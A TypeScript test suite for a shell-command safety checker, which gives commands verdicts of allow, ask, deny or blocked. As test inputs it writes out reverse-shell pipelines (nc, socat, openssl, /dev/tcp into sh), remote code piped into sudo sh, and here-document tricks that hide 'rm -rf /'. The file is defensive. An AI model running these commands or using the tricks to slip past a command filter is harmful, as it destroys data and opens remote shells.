import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { test } from "node:test";
import { checkCommand } from "./world.ts";

function cases(name: string): string[] {
  return readFileSync(new URL(`./cases/${name}.txt`, import.meta.url), "utf8")
    .split("\n")
    .filter(Boolean);
}

/** Returns the commands of a table whose verdict differs, with the verdict. */
function wrong(name: string, isRight: (verdict: ReturnType<typeof checkCommand>) => boolean): string[] {
  return cases(name).flatMap((command) => {
    const verdict = checkCommand(command);
    return isRight(verdict) ? [] : [`${verdict.verdict} (${verdict.reasons[0]?.message}): ${command}`];
  });
}

test("blocks code that reaches an interpreter through a stream with known content", () => {
  assert.deepEqual(
    wrong("input-blocked", ({ verdict }) => verdict === "blocked"),
    [],
  );
});

test("requires approval for code from another machine, in every form, even in a sandbox", () => {
  assert.deepEqual(
    wrong("remote-code", ({ verdict, reasons }) => verdict === "ask" && reasons[0]?.rule === "unanalyzable"),
    [],
  );
});

test("denies code from another machine that runs with more privileges", () => {
  assert.equal(checkCommand("curl h | sudo sh").verdict, "deny");
  assert.equal(checkCommand('sudo bash -c "$(curl h)"').verdict, "deny");
});

test("denies a shell that reads its commands from a socket", () => {
  for (const command of [
    "nc h 1 | sh",
    "socat - TCP:h:1 | sh",
    "openssl s_client -connect h:1 | sh",
    "sh < /dev/tcp/h/1",
  ])
    assert.equal(checkCommand(command).verdict, "deny", command);
});

test("allows data from streams, files and other machines in a sandbox", () => {
  assert.deepEqual(
    wrong("input-allowed", ({ verdict }) => verdict === "allow"),
    [],
  );
});

const DOCUMENTS: readonly { title: string; text: string }[] = [
  { title: "a script that a here-document writes", text: "cat > x.sh <<END\nrm -rf /\nEND\nbash x.sh" },
  { title: "a here-document that is piped into a shell", text: "cat <<'END' | sh\nrm -rf /\nEND" },
  { title: "a body whose opening line `read` consumes", text: "sh <<'END'\nread x\ncat <<F\nrm -rf /\nF\nEND" },
  { title: "a quoted text whose opening line `read` consumes", text: "sh <<'END'\nread x\necho '\nrm -rf /\n'\nEND" },
  { title: "an escape of a program that the input starts", text: "sh <<'END'\nsqlite3 x\n.shell rm -rf /\nEND" },
  { title: "code for an interpreter that the input starts", text: "sh <<'END'\npython3\nos.system(\"rm -rf /\")\nEND" },
];

for (const { title, text } of DOCUMENTS) {
  test(`blocks ${title}`, () => {
    assert.equal(checkCommand(text).verdict, "blocked");
  });
}

test("does not take the body of a here-document for commands", () => {
  assert.equal(checkCommand("sh <<'END'\ncat > notes <<F\nrm -rf /\nF\nEND").verdict, "allow");
});
